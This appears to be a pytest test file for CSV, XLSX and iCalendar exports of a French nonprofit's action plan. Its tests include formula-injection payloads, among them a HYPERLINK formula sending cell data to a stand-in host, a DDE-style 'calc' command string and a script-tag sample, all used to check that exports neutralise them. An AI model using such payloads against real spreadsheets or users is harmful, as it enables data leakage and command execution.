"""Exports of an action plan: CSV and XLSX safe to open in a spreadsheet, iCal that round-trips."""

import csv
import io
from datetime import UTC, date, datetime

import pytest
from icalendar import Calendar
from openpyxl import load_workbook

from app.actions import COLUMNS, ExportRow, export_filename, to_csv, to_ical, to_xlsx

HEADERS = {
    "rank": "Rang",
    "title": "Action",
    "description": "Description",
    "theme": "Thème",
    "question": "Question",
    "owner": "Responsable",
    "due": "Échéance",
    "status": "Statut",
    "indicator": "Indicateur",
    "target": "Cible",
    "overdue": "En retard",
}

DANGEROUS_PREFIXES = ["=", "+", "-", "@", "\t", "\r"]
TEXT_FIELDS = [
    "title",
    "description",
    "theme",
    "question",
    "owner",
    "status",
    "indicator",
    "target",
]
NOW = datetime(2026, 11, 23, 9, 30, tzinfo=UTC)


def make_row(**changes):
    values = {
        "key": "1",
        "rank": 1,
        "title": "Former les bénévoles à l'accueil",
        "description": "Deux sessions, au printemps et à l'automne.",
        "theme": "Gouvernance",
        "question": "Les bénévoles sont-ils formés ?",
        "owner": "Zoé Lefèvre",
        "due": date(2027, 3, 31),
        "status": "En cours",
        "indicator": "Bénévoles formés",
        "target": "12",
        "overdue": False,
    }
    values.update(changes)
    return ExportRow(**values)


def read_csv(data: bytes) -> list[list[str]]:
    assert data.startswith(b"\xef\xbb\xbf")
    text = data.decode("utf-8-sig")
    return list(csv.reader(io.StringIO(text, newline=""), delimiter=";"))


# CSV


def test_csv_round_trip():
    rows = [
        make_row(),
        make_row(
            key="2",
            rank=2,
            title="Publier le rapport; version « longue »",
            description='Ligne 1\nLigne 2, avec "guillemets"',
            due=None,
            overdue=True,
        ),
    ]
    data = to_csv(rows, HEADERS)
    assert b"\r\n" in data
    assert data.count(b"\r\n") == 3  # lines end with CRLF; the LF inside the quoted cell stays
    parsed = read_csv(data)
    assert parsed[0] == [HEADERS[key] for key in COLUMNS]
    assert parsed[1] == [
        "1",
        "Former les bénévoles à l'accueil",
        "Deux sessions, au printemps et à l'automne.",
        "Gouvernance",
        "Les bénévoles sont-ils formés ?",
        "Zoé Lefèvre",
        "2027-03-31",
        "En cours",
        "Bénévoles formés",
        "12",
        "",
    ]
    assert parsed[2][1] == "Publier le rapport; version « longue »"
    assert parsed[2][2] == 'Ligne 1\nLigne 2, avec "guillemets"'
    assert parsed[2][COLUMNS.index("due")] == ""
    assert parsed[2][COLUMNS.index("overdue")] == "En retard"


def test_csv_empty_plan_has_headers_only():
    assert read_csv(to_csv([], HEADERS)) == [[HEADERS[key] for key in COLUMNS]]


def test_csv_missing_header_is_an_error():
    headers = dict(HEADERS)
    del headers["owner"]
    with pytest.raises(ValueError, match="owner"):
        to_csv([make_row()], headers)


@pytest.mark.parametrize("prefix", DANGEROUS_PREFIXES)
@pytest.mark.parametrize("field", TEXT_FIELDS)
def test_csv_neutralises_formula_prefixes_in_every_column(field, prefix):
    payload = prefix + 'HYPERLINK("https://evil.example/?x="&A1;"Voir")'
    parsed = read_csv(to_csv([make_row(**{field: payload})], HEADERS))
    assert parsed[1][COLUMNS.index(field)] == "'" + payload


@pytest.mark.parametrize("prefix", DANGEROUS_PREFIXES)
def test_csv_neutralises_headers_too(prefix):
    headers = dict(HEADERS, title=prefix + "1+1")
    assert read_csv(to_csv([], headers))[0][COLUMNS.index("title")] == "'" + prefix + "1+1"


def test_csv_negative_number_typed_as_text_is_neutralised():
    # Deliberate: "-3" is prefixed like "-1+cmd|' /C calc'!A0", the rule does not parse formulas.
    parsed = read_csv(to_csv([make_row(target="-3", owner="+33 1 23 45 67 89")], HEADERS))
    assert parsed[1][COLUMNS.index("target")] == "'-3"
    assert parsed[1][COLUMNS.index("owner")] == "'+33 1 23 45 67 89"


@pytest.mark.parametrize(
    "text",
    [
        "Réduire de 20 % les déchets",
        "a=b, c+d, e-f, x@y",  # triggers only matter as the first character
        " =pas une formule",
        "'déjà entre apostrophes",
        "3",
        "",
    ],
)
def test_csv_leaves_normal_text_untouched(text):
    parsed = read_csv(to_csv([make_row(title=text)], HEADERS))
    assert parsed[1][COLUMNS.index("title")] == text


def test_csv_keeps_html_verbatim():
    hostile = "<script>alert(1)</script>"
    parsed = read_csv(to_csv([make_row(description=hostile)], HEADERS))
    assert parsed[1][COLUMNS.index("description")] == hostile


# XLSX


def load(data: bytes):
    return load_workbook(io.BytesIO(data)).active


def test_xlsx_layout():
    rows = [make_row(), make_row(key="2", rank=2, due=None)]
    sheet = load(to_xlsx(rows, HEADERS, "Plan d'actions", "Plan d'actions — La Fabrique"))
    assert sheet.title == "Plan d'actions"
    assert sheet["A1"].value == "Plan d'actions — La Fabrique"
    assert sheet["A1"].font.bold
    headers = list(sheet[2])
    assert [cell.value for cell in headers] == [HEADERS[key] for key in COLUMNS]
    assert all(cell.font.bold for cell in headers)
    assert sheet.freeze_panes == "A3"
    assert sheet.auto_filter.ref == "A2:K4"
    assert sheet.cell(row=3, column=1).value == 1
    assert sheet.cell(row=3, column=2).value == "Former les bénévoles à l'accueil"
    for letter in "ABCDEFGHIJK":
        assert 8 <= sheet.column_dimensions[letter].width <= 52


def test_xlsx_dates_are_dates():
    sheet = load(to_xlsx([make_row(), make_row(key="2", due=None)], HEADERS, "Plan", "Plan"))
    due = sheet.cell(row=3, column=COLUMNS.index("due") + 1)
    assert due.is_date
    assert due.value.date() == date(2027, 3, 31)
    assert due.number_format == "yyyy-mm-dd"
    assert sheet.cell(row=4, column=COLUMNS.index("due") + 1).value is None


@pytest.mark.parametrize(
    "text",
    ['=HYPERLINK("https://evil.example/","Voir")', "=1+1", "+1", "-3", "@SUM(A1)", "#N/A"],
)
def test_xlsx_formula_like_text_stays_a_plain_string(text):
    data = to_xlsx([make_row(title=text, owner=text)], HEADERS, "Plan", text)
    sheet = load(data)
    for cell in (sheet["A1"], sheet.cell(row=3, column=2), sheet.cell(row=3, column=6)):
        assert cell.data_type == "s"
        assert cell.value == text  # unchanged: no visible apostrophe in a spreadsheet cell
    assert sheet.cell(row=3, column=2).quotePrefix == (text[0] in "=+-@")
    # Nothing in the file is a formula.
    assert all(cell.data_type != "f" for row in sheet.iter_rows() for cell in row)


def test_xlsx_normal_text_has_no_quote_prefix():
    sheet = load(to_xlsx([make_row()], HEADERS, "Plan", "Plan"))
    assert not sheet.cell(row=3, column=2).quotePrefix


def test_xlsx_drops_characters_xml_cannot_carry():
    sheet = load(to_xlsx([make_row(description="Ligne 1\x0bLigne 2")], HEADERS, "Plan", "Plan"))
    assert sheet.cell(row=3, column=3).value == "Ligne 1Ligne 2"


def test_xlsx_sheet_title_is_made_acceptable():
    title = "Plan: actions/priorités [2026] de la Fabrique solidaire"
    sheet = load(to_xlsx([], HEADERS, title, "Plan"))
    assert len(sheet.title) <= 31
    assert not set(sheet.title) & set("\\*?:/[]")


def _luminance(hex_rgb: str) -> float:
    def channel(value: int) -> float:
        c = value / 255
        return c / 12.92 if c <= 0.03928 else ((c + 0.055) / 1.055) ** 2.4

    r, g, b = (int(hex_rgb[i : i + 2], 16) for i in (0, 2, 4))
    return 0.2126 * channel(r) + 0.7152 * channel(g) + 0.0722 * channel(b)


def test_xlsx_overdue_rows_are_highlighted_and_readable():
    rows = [make_row(overdue=True), make_row(key="2", rank=2)]
    sheet = load(to_xlsx(rows, HEADERS, "Plan", "Plan"))
    for column in range(1, len(COLUMNS) + 1):
        overdue = sheet.cell(row=3, column=column)
        assert overdue.fill.fill_type == "solid"
        background = overdue.fill.start_color.rgb[-6:]
        foreground = overdue.font.color.rgb[-6:]
        lighter, darker = sorted((_luminance(background), _luminance(foreground)), reverse=True)
        assert (lighter + 0.05) / (darker + 0.05) >= 4.5  # WCAG AA, normal text
        assert sheet.cell(row=4, column=column).fill.fill_type is None
    # Not by colour alone: the overdue column says so in words.
    assert sheet.cell(row=3, column=COLUMNS.index("overdue") + 1).value == "En retard"
    assert sheet.cell(row=4, column=COLUMNS.index("overdue") + 1).value is None


# iCalendar


def parse(data: bytes) -> Calendar:
    return Calendar.from_ical(data)


def ical(rows, **options):
    return to_ical(
        rows,
        "Plan d'actions — La Fabrique",
        "La Fabrique solidaire",
        "ecotone.example",
        NOW,
        headers=HEADERS,
        **options,
    )


def plan_rows():
    return [
        make_row(key="10", rank=1),
        make_row(key="11", rank=2, due=None),  # no date: no event
        make_row(key="12", rank=3, due=date(2026, 12, 15), state="done"),
        make_row(key="13", rank=4, due=date(2027, 1, 10), state="dropped"),
        make_row(key="14", rank=5, due=date(2026, 10, 1), overdue=True),
    ]


def test_ical_one_all_day_event_per_dated_open_action():
    calendar = parse(ical(plan_rows()))
    assert str(calendar["X-WR-CALNAME"]) == "Plan d'actions — La Fabrique"
    assert str(calendar["VERSION"]) == "2.0"
    events = calendar.walk("VEVENT")
    assert [str(event["UID"]) for event in events] == [
        "action-10@ecotone.example",
        "action-14@ecotone.example",
    ]
    first = events[0]
    start, end = first.decoded("DTSTART"), first.decoded("DTEND")
    assert type(start) is date
    assert type(end) is date
    assert (start, end) == (date(2027, 3, 31), date(2027, 4, 1))
    assert first.decoded("DTSTAMP") == NOW
    assert str(first["STATUS"]) == "CONFIRMED"
    assert str(first["TRANSP"]) == "TRANSPARENT"
    assert str(first["SUMMARY"]) == "Former les bénévoles à l'accueil"
    assert b"DTSTART;VALUE=DATE:20270331" in ical(plan_rows())


def test_ical_uids_are_stable_across_exports():
    later = datetime(2027, 1, 5, 8, 0, tzinfo=UTC)
    first = parse(ical(plan_rows()))
    second = parse(
        to_ical(plan_rows(), "x", "y", "ecotone.example", later, headers=HEADERS),
    )
    uids = [str(event["UID"]) for event in first.walk("VEVENT")]
    assert uids == [str(event["UID"]) for event in second.walk("VEVENT")]


def test_ical_dropped_actions_on_request_are_cancelled():
    events = parse(ical(plan_rows(), include_dropped=True)).walk("VEVENT")
    statuses = {str(event["UID"]): str(event["STATUS"]) for event in events}
    assert statuses == {
        "action-10@ecotone.example": "CONFIRMED",
        "action-13@ecotone.example": "CANCELLED",
        "action-14@ecotone.example": "CONFIRMED",
    }


def test_ical_description_carries_the_details():
    description = str(parse(ical([make_row(question="")])).walk("VEVENT")[0]["DESCRIPTION"])
    assert description == (
        "Deux sessions, au printemps et à l'automne.\n\n"
        "Responsable : Zoé Lefèvre\n"
        "Thème : Gouvernance\n"
        "Indicateur : Bénévoles formés\n"
        "Cible : 12\n"
        "Statut : En cours\n\n"
        "La Fabrique solidaire"
    )


def test_ical_escaping_round_trips():
    title = "Réunir le CA, le bureau; et les salariés\\équipe"
    description = "Ordre du jour :\n1. budget, 2. embauches;\n3. divers"
    data = ical([make_row(title=title, description=description, theme="Travail, emploi")])
    assert b"\\," in data
    assert b"\\;" in data
    assert b"\\n" in data
    event = parse(data).walk("VEVENT")[0]
    assert str(event["SUMMARY"]) == title
    assert str(event["DESCRIPTION"]).startswith(description + "\n\n")
    assert event.categories == ["Travail, emploi"]


def test_ical_long_lines_are_folded():
    data = ical([make_row(description="é" * 200)])
    assert all(len(line) <= 75 for line in data.split(b"\r\n"))
    assert str(parse(data).walk("VEVENT")[0]["DESCRIPTION"]).startswith("é" * 200)


def test_ical_naive_now_is_taken_as_utc():
    data = to_ical(
        [make_row()], "x", "y", "ecotone.example", datetime(2026, 1, 2, 3, 4), headers=HEADERS
    )
    assert b"DTSTAMP:20260102T030400Z" in data


# File names


@pytest.mark.parametrize(
    ("organisation", "kind", "ext", "expected"),
    [
        (
            "La Fabrique solidaire",
            "plan-d-actions",
            "csv",
            "plan-d-actions-la-fabrique-solidaire-2026-11-23.csv",
        ),
        (
            "L'Œuvre à côté — Sœurs & Frères",
            "Plan d'actions",
            ".XLSX",
            "plan-d-actions-l-oeuvre-a-cote-soeurs-freres-2026-11-23.xlsx",
        ),
        ("Ассоциация", "plan-d-actions", "ics", "plan-d-actions-2026-11-23.ics"),
        ("  ", "plan-d-actions", "pdf", "plan-d-actions-2026-11-23.pdf"),
    ],
)
def test_export_filename(organisation, kind, ext, expected):
    assert export_filename(organisation, kind, date(2026, 11, 23), ext) == expected


def test_export_filename_is_ascii_and_capped():
    name = export_filename("Association " * 20, "plan-d-actions", date(2026, 11, 23), "csv")
    assert name.isascii()
    assert len(name) <= len("plan-d-actions--2026-11-23.csv") + 60
    assert "--" not in name
    assert name.endswith("-2026-11-23.csv")


def test_export_filename_rejects_empty_extension():
    with pytest.raises(ValueError, match="extension"):
        export_filename("x", "plan", date(2026, 11, 23), "..")
